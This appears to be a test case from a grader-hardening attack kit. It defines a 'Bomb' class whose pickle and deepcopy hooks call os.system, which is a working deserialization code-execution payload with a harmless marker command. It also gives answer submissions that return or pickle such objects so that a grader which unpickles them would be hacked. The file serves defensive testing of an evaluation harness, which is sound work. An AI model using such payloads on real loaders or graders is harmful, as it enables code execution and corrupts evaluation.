"""Return objects whose pickle runs a command where it is loaded.

Must not: unpickle anything.
"""

from attack_kit import every

FIRST = [
    "import os, pickle\n"
    "class Bomb:\n"
    "    def __reduce__(self): return os.system, ('touch /tmp/attack-was-here',)\n"
    "    def __reduce_ex__(self, version): return self.__reduce__()\n"
    "    def __deepcopy__(self, memo): os.system('touch /tmp/attack-was-here')",
]
ANSWERS = every("return Bomb()") | {
    "l2-backward": "def backward_propagation_with_regularization(*a, **k):\n"
    "    return {f'd{k}{n}': np.array([Bomb()]) for k in 'Wb' for n in (1, 2, 3)}",
    "dropout-forward": "def forward_propagation_with_dropout(*a, **k):\n"
    "    return pickle.dumps(Bomb()), [pickle.dumps(Bomb())] * 14",
}
REASON = "cannot be graded"
STOPPED_BY = "never pickle"
PROCESS_STOPS = True
